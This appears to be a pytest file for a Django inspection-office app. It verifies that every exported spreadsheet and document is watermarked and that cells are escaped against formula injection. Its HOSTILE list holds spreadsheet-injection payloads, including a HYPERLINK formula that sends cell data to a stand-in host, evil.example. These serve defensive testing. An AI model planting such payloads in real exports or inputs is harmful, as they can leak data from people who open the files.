"""Every exported file: the reader's watermark in it, and no cell a spreadsheet would run.

The exports are found structurally (every URL pattern and API path that ends in .xlsx,
.docx or .csv, plus the draft download), so a new export is checked without being named.
"""

import csv
import io
import re
from datetime import date

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.cast import client_for
from tests.rectification.conftest import adopt, measure_values, rect  # noqa: F401
from xuncha.core.sheets import FORMULA_STARTS, Sheets, safe_cell, unescape_cell, xlsx_watermark
from xuncha.reports.watermark import docx_watermark

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


def _patterns(resolvers, prefix=""):
    for p in resolvers:
        if isinstance(p, URLResolver):
            yield from _patterns(p.url_patterns, prefix + str(p.pattern))
        elif isinstance(p, URLPattern):
            yield prefix + str(p.pattern), p.name


def export_paths():
    """Every download route of the site and of the API (its routes are in the URL conf)."""
    found = {path for path, _name in _patterns(get_resolver().url_patterns)}
    return sorted(p for p in found if re.search(r"\.(xlsx|docx|csv)$|/download/$|/docx$", p))


def _world(rect):  # noqa: F811
    from xuncha.clues import services as clue_services
    from xuncha.plans.models import Declaration, TeamMember
    from xuncha.rectification import services
    from xuncha.rectification.models import Measure
    from xuncha.reports.models import ReportDraft

    cast = rect.cast
    inspection = cast.inspections["a"]
    measures = adopt(rect)
    # Hostile text in every kind of cell a unit or the office can type.
    from xuncha.plans.models import Inspector
    from xuncha.training.models import TrainingRecord

    for text in HOSTILE:
        TrainingRecord.objects.create(
            inspector=Inspector.objects.filter(office=inspection.office).first(),
            course=text,
            organiser="市委组织部",
            start=date(2026, 3, 1),
            end=date(2026, 3, 3),
            hours=16,
            recorded_by=cast.office_staff,
        )
    Measure.objects.filter(pk=measures[0].pk).update(
        content=HOSTILE[0],
        responsible_leader=HOSTILE[1],
        lead_department=HOSTILE[2],
        responsible_person=HOSTILE[3],
        expected_outcome=HOSTILE[4],
    )
    Measure.objects.filter(pk=measures[1].pk).update(content=HOSTILE[5])
    rect.problems[0].__class__.objects.filter(pk=rect.problems[0].pk).update(
        title="=1+1", description="@cmd"
    )
    letter = services.supervision_issue(
        plan=rect.plan,
        measures=measures[:1],
        requirement="请于限期内完成整改",
        reply_by=date(2099, 1, 5),
        actor=cast.office_staff,
    )
    clue = clue_services.clue_create(
        inspection=inspection,
        unit=cast.units["bureau"],
        source="working_paper",
        working_paper=rect.problems[0].paper,
        people_concerned="刘某",
        facts="违规发放补贴。",
        proposed_handling="discipline",
        actor=cast.team_member,
    )
    handover = clue_services.handover_create(
        inspection=inspection,
        recipient=cast.units["discipline"],
        kind="discipline",
        subject="问题线索",
        clues=[clue],
        actor=cast.office_staff,
    )
    draft = ReportDraft.objects.create(
        inspection=inspection,
        kind=ReportDraft.Kind.REPORT,
        title="巡察报告",
        sections=[{"heading": "", "level": 0, "text": "正文"}],
        created_by=cast.team_leader,
        updated_by=cast.team_leader,
    )
    member = TeamMember.objects.filter(team__inspection=inspection).first()
    declaration, _ = Declaration.objects.get_or_create(member=member)
    from xuncha.inspections.prep import prepare_for_stationing
    from xuncha.inspections.prep_models import SecrecyPledge, WorkPlan

    prepare_for_stationing(inspection, cast.office_staff)
    from tests.rectification.revisit_world import revisit_inspection
    from xuncha.rectification import revisits

    revisit = revisits.revisit_start(
        inspection=revisit_inspection(cast, inspection), actor=cast.office_staff
    )
    from xuncha.rectification import results

    suggestion = results.result_create(
        inspection=inspection,
        kind="suggestion_letter",
        subject="建议规范津补贴发放",
        recipient=cast.units["bureau"],
        actor=cast.office_staff,
    )
    return {
        "rectification/results/<int:pk>/letter.docx": suggestion.pk,
        "api/v1/rectification/results/<item_id>/letter.docx": suggestion.pk,
        "rectification/revisits/<int:pk>/report.docx": revisit.inspection_id,
        "inspections/work-plans/<int:pk>/plan.docx": WorkPlan.objects.get(inspection=inspection).pk,
        "inspections/pledges/<int:pk>/pledge.docx": SecrecyPledge.objects.get(member=member).pk,
        "plans/<int:pk>/workplan.docx": inspection.round.plan.pk,
        "plans/inspections/<int:pk>/appointment.docx": inspection.pk,
        "plans/declarations/<int:pk>/form.docx": declaration.pk,
        "clues/handovers/<int:pk>/letter.docx": handover.pk,
        "rectification/plans/<int:pk>/ledger.xlsx": rect.plan.pk,
        "rectification/export.xlsx": None,  # the office's overview of every plan
        "rectification/letters/<int:pk>.docx": letter.pk,
        "reports/draft/<int:pk>/download/": draft.pk,
        "api/v1/rectification/plans/<plan_id>/ledger.xlsx": rect.plan.pk,
        "api/v1/reports/drafts/<draft_id>/docx": draft.pk,
        "stats/table.xlsx": None,  # the official statistical table (figures only)
        "study/stats.xlsx": None,  # study statistics: names and figures
        "training/records.xlsx": None,  # the office's training records
        "api/v1/training/records.xlsx": None,
    }


# Tables of figures: office names and numbers, no text a unit or a team types (their formula
# safety, with a hostile office name, is checked in tests/stats/test_exports.py).
FIGURES_ONLY = {"stats/table.xlsx", "study/stats.xlsx"}  # study: tests/study/test_stats.py


def _url(path, ids):
    return "/" + re.sub(r"<[^>]+>", str(ids.get(path, "")), path)


def _assert_no_formula(data: bytes, where: str) -> list:
    wb = load_workbook(io.BytesIO(data))  # not read-only: formulas keep data_type "f"
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (where, cell.value)
                    texts.append(cell.value)
    return texts


@pytest.mark.django_db
def test_every_export_is_watermarked_and_spreadsheets_hold_no_formula(rect):  # noqa: F811
    cast = rect.cast
    ids = _world(rect)
    paths = export_paths()
    # A new download route fails here until it is added to the world above (and so checked).
    assert set(paths) - {"audit/export.csv"} == set(ids), sorted(set(paths) ^ set(ids))
    for path in paths:
        reader = cast.auditor if path.startswith("audit/") else cast.office_staff
        client = client_for(reader)
        response = client.get(_url(path, ids))
        assert response.status_code == 200, (path, response.status_code)
        data = b"".join(response.streaming_content) if response.streaming else response.content
        if path.endswith(".csv"):
            continue  # the audit log: checked in test_audit_csv_cells_are_escaped
        marks = xlsx_watermark(data) if ".xlsx" in path else docx_watermark(data)
        assert any(reader.full_name in m and reader.username in m for m in marks), (path, marks)
        if ".xlsx" in path:
            texts = _assert_no_formula(data, path)
            if path in FIGURES_ONLY:
                continue
            for hostile in HOSTILE[:5]:
                assert "'" + hostile in texts, (path, hostile)


@pytest.mark.django_db
def test_ledger_round_trip_keeps_hostile_text_as_text(rect):  # noqa: F811
    """An escaped cell imports back as the text the unit typed, and changes nothing."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from xuncha.rectification import exports, services

    cast = rect.cast
    for i, hostile in enumerate(HOSTILE):
        services.measure_create(
            plan=rect.plan,
            problem=rect.problems[0],
            actor=cast.unit_liaison,
            **measure_values(content=f"{hostile}{i}", responsible_person=hostile[:10]),
        )
    url = f"/rectification/plans/{rect.plan.pk}/ledger.xlsx"
    data = b"".join(client_for(cast.unit_liaison).get(url).streaming_content)
    _assert_no_formula(data, "ledger")
    report = exports.ledger_import(
        plan=rect.plan, file=SimpleUploadedFile("l.xlsx", data), actor=cast.unit_liaison
    )
    assert not report.errors and not report.changed and not report.created, report
    assert report.unchanged == len(HOSTILE)


def test_numbers_stay_numbers_and_text_is_escaped(tmp_path):
    book = Sheets(watermark="读者（reader） 2026-01-01 10:00 导出")
    ws = book.sheet("表")
    ws.append([-5, -1.5, 0, "-5", "=1+1", "普通文字", None, date(2026, 1, 2)])
    book.save(tmp_path / "t.xlsx")
    row = next(load_workbook(tmp_path / "t.xlsx").active.iter_rows(values_only=True))
    assert row[:6] == (-5, -1.5, 0, "'-5", "'=1+1", "普通文字")
    assert row[6] is None and row[7].date() == date(2026, 1, 2)
    with pytest.raises(ValueError):
        Sheets(watermark="")


@given(st.text())
def test_safe_cell_never_starts_a_formula_and_round_trips(text):
    escaped = safe_cell(text)
    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape_cell(escaped) == text
    if not text.startswith((*FORMULA_STARTS, "'")):
        assert escaped == text  # ordinary text is untouched


@pytest.mark.django_db
def test_audit_csv_cells_are_escaped(cast):
    from xuncha.audit.services import record

    record(actor=cast.office_staff, action="update", summary=HOSTILE[0])
    response = client_for(cast.auditor).get("/audit/export.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for r in rows for c in r]
    assert "'" + HOSTILE[0] in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
